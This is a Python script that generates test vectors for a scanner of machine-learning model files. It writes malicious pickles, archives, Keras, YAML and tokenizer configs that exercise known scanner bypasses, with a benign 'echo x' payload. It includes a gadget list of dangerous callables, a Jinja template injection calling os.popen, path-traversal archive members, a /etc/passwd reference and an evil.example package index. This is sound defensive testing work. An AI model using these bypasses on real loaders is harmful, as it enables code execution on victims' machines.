"""Hostile files, one or more for each row of the table of known bypasses: what a scanner must stop.

    python tests/scan/vectors.py OUT_DIR

The standard library writes all of them; nothing here loads any. The command that they would run is
harmless. `docs/scan.md` names the rows; the crate's own tests hold the same vectors byte by byte.
"""

import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import sys
import tarfile
import zipfile
import zlib

SYSTEM = b"cposix\nsystem\n(S'echo x'\ntR."


def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def call(module, name, *args):
    """A pickle of protocol 4 that calls module.name with texts."""
    body = text(module) + text(name) + b"\x93(" + b"".join(text(arg) for arg in args) + b"tR"
    return b"\x80\x04" + body + b"."


GADGETS = [
    ("pip", "main"), ("pip._internal", "main"), ("timeit", "timeit"), ("cProfile", "run"), ("profile", "run"),
    ("trace", "Trace.run"), ("doctest", "debug_script"), ("code", "interact"), ("pty", "spawn"),
    ("ctypes", "CDLL"), ("pydoc", "pipepager"), ("pkgutil", "resolve_name"), ("operator", "methodcaller"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("uuid", "_get_command_stdout"),
    ("imaplib", "IMAP4_stream"), ("_pyrepl.pager", "pipe_pager"), ("_osx_support", "_read_output"),
    ("_aix_support", "_read_cmd_output"), ("logging", "FileHandler"), ("io", "FileIO"), ("urllib.request", "urlopen"),
    ("ssl", "get_server_certificate"), ("idlelib.run", "Executive.runcode"), ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("ensurepip", "_run_pip"), ("venv", "main"), ("runpy", "run_path"), ("marshal", "loads"), ("types", "FunctionType"),
    ("importlib", "import_module"), ("builtins", "eval"), ("builtins", "exec"), ("builtins", "getattr"),
    ("subprocess", "Popen"), ("os", "popen"), ("nt", "system"), ("socket", "create_connection"), ("shutil", "rmtree"),
    ("webbrowser", "open"), ("httplib", "HTTPSConnection"), ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch.utils.collect_env", "run"), ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch.utils._config_module", "load_config"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("torch", "load"), ("torch", "classes.load_library"),
    ("joblib", "load"), ("numpy", "load"), ("pandas", "eval"), ("dill", "loads"), ("cloudpickle", "loads"),
    ("torch", "serialization.os.system"), ("pathlib", "os.system"), ("collections", "_sys.exit"),
    ("interpreters", "run_string"), ("_posixsubprocess", "fork_exec"), ("bdb", "Bdb.run"), ("distutils.file_util", "write_file"),
]


def raw():
    yield "plain-protocol-0", SYSTEM
    yield "plain-protocol-4", call("os", "system", "echo x")
    yield "not-adjacent-memo", b"\x80\x04" + text("os") + b"\x940" + text("x") + b"0h\x00" + text("system") + b"\x93" + text("echo x") + b"\x85R."
    yield "not-adjacent-dup", b"\x80\x04" + text("os") + text("decoy") + b"0" + text("system") + b"20\x93" + text("echo x") + b"\x85R."
    yield "name-built-by-reduce", b"\x80\x04" + text("os") + text("builtins") + text("str") + b"\x93" + text("system") + b"\x85R\x93" + text("echo x") + b"\x85R."
    yield "result-popped", SYSTEM[:-1] + b"0N."
    yield "broken-after-payload", SYSTEM[:-1] + b"\xff\xff\xff"
    yield "truncated", SYSTEM[:-1]
    yield "second-pickle", pickle.dumps({"a": 1}, 2) + SYSTEM
    yield "padded-second-pickle", pickle.dumps([1], 4) + b"\0" * 64 + SYSTEM
    yield "proto-midstream", b"N0\x80\x02" + SYSTEM
    yield "extension", b"\x80\x02\x82\x01."
    yield "persistent-id", b"\x80\x02" + b"Pevil\n."
    yield "obj-opcode", b"(cos\nsystem\nS'echo x'\no."
    yield "inst-opcode", b"(S'echo x'\nios\nsystem\n."
    yield "build-setstate", b"\x80\x04" + text("os") + text("system") + b"\x93)R" + b"}" + text("a") + b"Nsb."
    yield "frame-boundary", b"\x80\x04\x95\x04\x00\x00\x00\x00\x00\x00\x00" + text("os") + text("system") + b"\x93" + text("echo x") + b"\x85R."
    yield "length-2-63", b"\x80\x04\x8d" + (1 << 63).to_bytes(8, "little") + b"x."
    yield "memo-2-32", b"\x80\x02]r\xff\xff\xff\xff."
    yield "laughs", b"\x80\x02" + b"(" + b"".join(b"]q%c" % i + b"h%c" % max(i - 1, 0) * 9 + b"e" for i in range(9)) + b"." + SYSTEM


def archive(members, **options):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", **options) as out:
        for name, data in members:
            out.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def tarred(name, data):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as out:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        out.addfile(info, io.BytesIO(data))
    return file.getvalue()


def containers():
    torch = [("archive/data.pkl", SYSTEM), ("archive/version", b"3\n")]
    whole = archive(torch)
    yield "torch.pt", whole
    yield "renamed-in-central.pt", whole[::-1].replace(b"data.pkl"[::-1], b"data.txt"[::-1], 1)[::-1]
    flags = bytearray(whole)
    flags[6] |= 1
    yield "flag-bit.pt", bytes(flags)
    crc = bytearray(whole)
    crc[14] ^= 0xFF
    yield "bad-crc.pt", bytes(crc)
    yield "duplicate-name.pt", archive([("a/data.pkl", pickle.dumps(1, 2)), ("a/data.pkl", SYSTEM)])
    yield "nested.zip", archive([("inner.zip", archive([("x.bin", SYSTEM)]))])
    yield "slip.zip", archive([("../../x.pkl", SYSTEM)])
    yield "tar.tar", tarred("m.pkl", SYSTEM)
    yield "slip.tar", tarred("../../etc/x", SYSTEM)
    for name, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress)):
        yield f"model.pkl.{name}", pack(SYSTEM)
        yield f"model.{name}.joblib", pack(call("os", "system", "echo x"))
    yield "double.gz", gzip.compress(gzip.compress(SYSTEM))
    yield "pickle.safetensors", SYSTEM
    yield "pickle.txt", SYSTEM
    yield "behind-bytes.bin", b"\0" * 100 + whole
    yield "legacy-magic-eval.pth", call("builtins", "eval", "1") + pickle.dumps(1001, 2)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    yield "objects.npy", b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + SYSTEM
    yield "objects.npz", archive([("a.npy", b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + SYSTEM)])


def configurations():
    lambda_ = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wAA", None, None]}}]}}
    keras = [("metadata.json", '{"keras_version": "3.0.0"}'), ("config.json", json.dumps(lambda_))]
    yield "lambda.keras", archive(keras)
    nested = {"class_name": "Functional", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": lambda_["config"]["layers"][0]}}]}}
    yield "nested-lambda.keras", archive([keras[0], ("config.json", json.dumps(nested))])
    reference = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    yield "reference.keras", archive([keras[0], ("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [reference]}}))])
    node = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": "x"}
    yield "function.skops", archive([("schema.json", json.dumps({"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [node]}))])
    for name, template in (
        ("dunder", "{{ ''.__class__.__mro__ }}"), ("joined", "{{ x|attr('__cl' ~ 'ass__') }}"),
        ("globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ):
        yield f"{name}/tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()
        yield f"{name}.jinja", template.encode()
    yield "remote/config.json", json.dumps({"model_type": "llama", "auto_map": {"AutoModel": "modeling.Evil"}}).encode()
    yield "hydra.yaml", b"model:\n  _target_: os.system\n  command: echo x\n"
    yield "tags.yaml", b"a: !!python/object/apply:os.system ['echo x']\n"
    yield "mlflow/MLmodel", b"flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11\n"
    yield "requirements.txt", b"--extra-index-url http://evil.example/simple\ntorch==2.0\n"
    yield "shards/model.safetensors.index.json", json.dumps({"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}).encode()
    header = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "b": {"dtype": "F32", "shape": [1], "data_offsets": [2, 6]}}).encode()
    yield "overlap.safetensors", len(header).to_bytes(8, "little") + header + b"\0" * 6


def main(out):
    out = pathlib.Path(out)
    files = [(f"gadget/{module}.{name}.pkl", call(module, name, "echo x")) for module, name in GADGETS]
    files += [(f"pickle/{name}.pkl", data) for name, data in raw()]
    files += [(f"container/{name}", data) for name, data in containers()]
    files += [(f"config/{name}", data) for name, data in configurations()]
    for name, data in files:
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return len(files)


if __name__ == "__main__":
    print(main(sys.argv[1]))
